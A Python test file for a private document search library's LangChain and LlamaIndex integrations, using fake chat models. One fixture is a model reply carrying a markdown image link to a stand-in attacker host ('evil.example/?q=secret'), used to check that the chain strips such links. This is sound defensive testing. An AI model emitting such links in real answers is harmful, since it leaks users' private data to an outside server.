"""The same search in LangChain and LlamaIndex, with their own fake models."""

from __future__ import annotations

import pytest
from langchain_core.language_models.fake_chat_models import (
    FakeListChatModel,
    GenericFakeChatModel,
)
from langchain_core.messages import AIMessage, ToolMessage
from llama_index.core.llms import MockLLM

from private_search import with_langchain, with_llamaindex
from private_search.catalogue import Filter
from private_search.library import Library
from private_search.search import Search

QUESTION = "When does the night ferry leave?"
LINKED = "At 20:45 [1]. ![x](https://evil.example/?q=secret)"
NOTHING = Filter(sender="nobody at all")


@pytest.fixture(scope="module")
def search(shelf: Library) -> Search:
    return Search(shelf)


def test_langchain_retriever(search: Search) -> None:
    retriever = with_langchain.PrivateRetriever(search=search, limit=3)
    first, *others = retriever.invoke(QUESTION)
    assert "20:45" in first.page_content
    assert any("20:45" in sentence for sentence in first.metadata["sentences"])
    assert len(others) <= 2
    # Threads take turns.
    assert retriever.batch([QUESTION] * 4) == [[first, *others]] * 4


def test_langchain_answers_in_two_steps(search: Search) -> None:
    chain = with_langchain.answer_chain(search, FakeListChatModel(responses=[LINKED]))
    answered = chain.invoke(QUESTION)
    assert "20:45" in answered["documents"][0].page_content
    assert answered["answer"] == "At 20:45 [1]. x"


def test_langchain_asks_no_model_without_documents(search: Search, monkeypatch) -> None:
    retriever = with_langchain.PrivateRetriever
    monkeypatch.setattr(retriever, "_get_relevant_documents", lambda *_, **__: [])
    chain = with_langchain.answer_chain(search, FakeListChatModel(responses=[]))
    assert chain.invoke(QUESTION)["answer"] == with_langchain.NOTHING


def test_langchain_agent_uses_the_tool(search: Search) -> None:
    agents = pytest.importorskip("langchain.agents", reason="pip install langchain")

    class Model(GenericFakeChatModel):
        def bind_tools(self, tools, **_):
            assert [tool.name for tool in tools] == ["search_my_documents"]
            return self

    call = {"name": "search_my_documents", "args": {"question": QUESTION}, "id": "1"}
    said = iter([AIMessage("", tool_calls=[call]), AIMessage("At 20:45.")])
    agent = agents.create_agent(Model(messages=said), tools=[with_langchain.search_tool(search)])
    messages = agent.invoke({"messages": [("user", QUESTION)]})["messages"]
    (result,) = [message for message in messages if isinstance(message, ToolMessage)]
    assert "20:45" in result.content
    assert result.artifact[0].metadata["title"]
    assert messages[-1].content == "At 20:45."


def test_langchain_tool_takes_filters(search: Search) -> None:
    tool = with_langchain.search_tool(search)
    assert tool.invoke({"question": "roof", "sender": "nobody at all"}) == with_langchain.NOTHING
    assert tool.args["question"]["description"].startswith("What to look for")


def test_llamaindex_engine_sends_fenced_passages(search: Search) -> None:
    # This model answers with its prompt.
    engine = with_llamaindex.query_engine(search, MockLLM())
    answered = engine.query(QUESTION)
    assert "20:45" in answered.source_nodes[0].text
    assert answered.source_nodes[0].metadata["confidence"] >= 0.9
    sent = str(answered)
    assert "20:45" in sent
    assert QUESTION in sent
    assert "confidence" not in sent
    assert "http" not in sent


def test_llamaindex_says_that_nothing_is_there(search: Search) -> None:
    engine = with_llamaindex.query_engine(search, MockLLM(), NOTHING)
    assert str(engine.query(QUESTION)) == with_llamaindex.NOTHING


def test_llamaindex_postprocessor_drops_what_hardly_fits(search: Search) -> None:
    nodes = with_llamaindex.PrivateRetriever(search).retrieve(QUESTION)
    assert with_llamaindex.OnlyAnswers().postprocess_nodes(nodes) == nodes
    assert with_llamaindex.OnlyAnswers(needed=1.1).postprocess_nodes(nodes) == []


async def test_llamaindex_answers_async_callers(search: Search) -> None:
    engine = with_llamaindex.query_engine(search, MockLLM(), NOTHING)
    assert str(await engine.aquery(QUESTION)) == with_llamaindex.NOTHING
